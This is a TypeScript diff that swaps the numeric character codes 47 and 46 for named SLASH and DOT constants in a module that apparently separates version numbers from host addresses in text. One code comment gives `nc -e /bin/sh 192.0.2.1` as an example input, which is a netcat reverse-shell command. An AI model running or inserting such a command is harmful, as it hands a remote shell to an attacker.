@@ -1,9 +1,12 @@
+import { CHARACTER_CODES } from '../../../character-codes.ts';
 import { codeBefore, isBlank, isDigit, isWordLike } from '../../text/characters.ts';
 import { NEAR } from '../../text/context.ts';
 import { LookAhead } from '../../text/look-ahead.ts';
 import { Words } from '../../text/words.ts';
 import { isBehindHost } from '../addresses/host-before-address.ts';
 import { isAsLowAsVersions, isLow, startsLow } from './low-numbers.ts';
+
+const { DOT, SLASH } = CHARACTER_CODES;
 
 /** `Versión del antivirus: `, `Версия загрузчика `: of what it is stands between; a preposition at the end says where something is. */
 const VERSION_OF =
@@ -62,12 +65,12 @@ function isBehindName(text: string, start: number): boolean {
   let word = start - 1;
   while (start - word < LONGEST_WORD && isWordLike(codeBefore(text, word - 1))) word--;
   // `nc -e /bin/sh 192.0.2.1`
-  return word < start - 1 && codeBefore(text, word - 1) !== 47 && !BEFORE_ADDRESS.has(text, word, start - 1);
+  return word < start - 1 && codeBefore(text, word - 1) !== SLASH && !BEFORE_ADDRESS.has(text, word, start - 1);
 }
 
 /** Digits and dots alone; `libc6` is a name. */
 function isBehindNumber(text: string, end: number): boolean {
   let at = end;
-  while (end - at < LONGEST_WORD && (isDigit(codeBefore(text, at - 1)) || codeBefore(text, at - 1) === 46)) at--;
+  while (end - at < LONGEST_WORD && (isDigit(codeBefore(text, at - 1)) || codeBefore(text, at - 1) === DOT)) at--;
   return at < end && !isWordLike(codeBefore(text, at - 1));
 }
